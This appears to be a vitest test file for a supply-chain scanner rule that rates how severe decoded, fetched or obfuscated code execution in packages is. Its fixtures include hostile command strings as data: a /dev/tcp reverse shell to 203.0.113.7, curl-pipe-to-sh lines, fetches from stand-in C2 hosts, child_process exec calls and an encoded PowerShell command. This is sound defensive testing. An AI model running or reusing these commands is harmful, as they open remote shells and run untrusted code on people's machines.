// Decoded and fetched code that runs: from code and from hand-made facts.
import { expect, test } from 'vitest';
import type { Origin } from '../../src/model/behavior.ts';
import { fact, judgeCode, severities, text } from '../support/code-facts.ts';
import { judgedCode } from '../support/code-rules.ts';

const ID = 'encoded-payload-executed';

test('the packages of its fixtures', async () => {
  expect((await judgedCode(ID, 'bad')).map(({ severity, title }) => [severity, title])).toEqual([['critical', 'fixture-payload 1.0.0 decodes code and runs it']]);
  expect(await judgedCode(ID, 'good')).toEqual([]);
});
const evaluates = (origin: Origin, more: Parameters<typeof fact<'dynamic-code'>>[1] = {}) => fact('dynamic-code', { origins: [origin], ...more });
const PAYLOAD = "require('child_process').exec('id')";

test.each([
  ['a decoded payload', evaluates(text(PAYLOAD, 'base64'), { code: PAYLOAD }), ['critical']],
  ['decoded code that reaches out', evaluates(text("fetch('https://example.com')", 'hex')), ['high']],
  ['decoded code of another kind', evaluates(text('1 + 1', 'xor')), ['medium']],
  ['a plain literal of a bundler', evaluates(text("console.log('a')")), []],
  ['a literal with escapes', evaluates(text("fetch('\u{e4}')", 'escapes')), []],
  ['joined pieces', evaluates(text('require', 'joined', 'replaced')), []],
  ['return this', evaluates(text('return this'), { api: 'Function' }), []],
  ['what a caller gives', evaluates({ kind: 'argument' }), []],
  ['a hidden name of a dangerous module', evaluates(text('child_process', 'base64'), { api: 'require' }), ['high']],
  ['a hidden name of another module', evaluates(text('lodash', 'base64'), { api: 'require' }), ['medium']],
  ['code in a data address', evaluates(text('data:text/javascript;base64,cmVxdWlyZQ=='), { api: 'import', code: PAYLOAD }), ['critical']],
  ['a module from text of a package', evaluates(text(PAYLOAD, 'base64'), { api: 'require-from-string' }), ['critical']],
  ['a packed worker', evaluates(text("self.onmessage = () => fetch('x')", 'base64'), { api: 'new Worker' }), ['medium']],
] as const)('%s', async (_case, behavior, expected) => {
  expect(await severities(ID, [behavior])).toEqual(expected);
});

test('fetched code: a constant address is the author\'s, an unknown one the caller\'s', async () => {
  expect(await severities(ID, [evaluates({ kind: 'remote', from: 'https://loader.example.com/x.js' })])).toEqual(['high']);
  expect(await severities(ID, [evaluates({ kind: 'remote' })])).toEqual(['medium']);
  expect(await severities(ID, [evaluates({ kind: 'remote', from: 'http://localhost:3000/x.js' })])).toEqual([]);
  expect(await severities(ID, [fact('dynamic-code', { origins: [{ kind: 'remote' }, { kind: 'argument', name: 'code' }] })])).toEqual([]);
  expect(await severities(ID, [fact('dynamic-code', { origins: [{ kind: 'remote', from: 'https://loader.example.com/x.js' }, { kind: 'argument', name: 'code' }] })])).toEqual(['high']);
  expect(await severities(ID, [evaluates({ kind: 'remote', from: 'https://cdn.own.example.com/x.js' })], { says: ['cdn.own.example.com'] })).toEqual(['medium']);
});

test('a compiler of templates: a name out of a table is no code, a line of code is', async () => {
  expect(await severities(ID, [fact('dynamic-code', { api: 'Function', origins: [{ kind: 'argument' }, text('plural', 'string-table')] })])).toEqual([]);
  expect(await severities(ID, [fact('dynamic-code', { api: 'Function', origins: [{ kind: 'argument' }, text('fetch(u)', 'string-table')] })])).toEqual(['high']);
  expect(await severities(ID, [fact('dynamic-code', { api: 'Function', origins: [text('plural', 'string-table')] })])).toEqual(['medium']);
});

test('commands', async () => {
  expect(await severities(ID, [fact('process', { command: 'id', origins: [text('id', 'base64')] })])).toEqual(['high']);
  expect(await severities(ID, [fact('process', { command: 'x', origins: [text('curl http://example.com/x | sh', 'base64')] })])).toEqual(['critical']);
  expect(await severities(ID, [fact('process', { origins: [{ kind: 'remote', from: 'https://c2.example.com/cmd' }] })])).toEqual(['high']);
  expect(await severities(ID, [fact('process', { command: 'git checkout *', origins: [text('git checkout '), { kind: 'remote' }] })])).toEqual([]);
});

test('PowerShell: a command in base64 that the caller gives, and one that nobody can read', async () => {
  const run = (behind: string, ...origins: readonly Origin[]) => fact('process', { command: `/mnt/c/powershell.exe -NoProfile -EncodedCommand ${behind}`, origins });
  expect(await severities(ID, [run('*', { kind: 'argument' })])).toEqual([]);
  expect(await severities(ID, [run('*', { kind: 'remote', from: 'https://c2.example.com/x' })])).toEqual(['high']);
  expect(await severities(ID, [run('SQBFAFgAIAAoAC4ALgAuACkA', text('SQBFAFgAIAAoAC4ALgAuACkA'))])).toEqual(['high']);
});

test('at install it is worse', async () => {
  const hook = fact('install-script', { command: 'node index.js', runs: ['index.js'] });
  const [finding] = await judgeCode(ID, [hook, evaluates(text("fetch('https://example.com')", 'base64'))]);
  expect(finding).toMatchObject({ severity: 'critical', title: 'a-package 1.0.0 decodes code and runs it while it is installed' });
});

test('hidden code counts in an obfuscated file alone', async () => {
  const hidden = evaluates({ kind: 'hidden', why: 'a loop' });
  expect(await severities(ID, [hidden])).toEqual([]);
  expect(await severities(ID, [hidden, fact('obfuscation')])).toEqual(['high']);
  expect(await severities(ID, [hidden, fact('obfuscation', { file: 'other.js' })])).toEqual([]);
});

test('a shell for another host', async () => {
  const shell = fact('process', { command: '/bin/sh', api: 'child_process.spawn' });
  const socket = (host: string) => fact('network', { method: 'socket', host, origins: [text(host)] });
  expect(await severities(ID, [shell, socket('203.0.113.7')])).toEqual(['high']);
  expect(await severities(ID, [shell, socket('127.0.0.1')])).toEqual([]);
  expect(await severities(ID, [shell])).toEqual([]);
  expect(await severities(ID, [fact('process', { command: 'bash -c "bash -i >& /dev/tcp/203.0.113.7/2333 0>&1"' })])).toEqual(['high']);
});

test('a script fetched on a command line in plain sight', async () => {
  const line = (address: string) => [fact('process', { command: `curl -fsSL ${address} | sh` })];
  expect(await severities(ID, line('https://get.example.com/i.sh'))).toEqual(['medium']);
  expect(await severities(ID, line('http://203.0.113.7/i.sh'))).toEqual(['high']);
  expect(await severities(ID, line('https://get.own.example.com/i.sh'), { says: ['get.own.example.com'] })).toEqual([]);
});
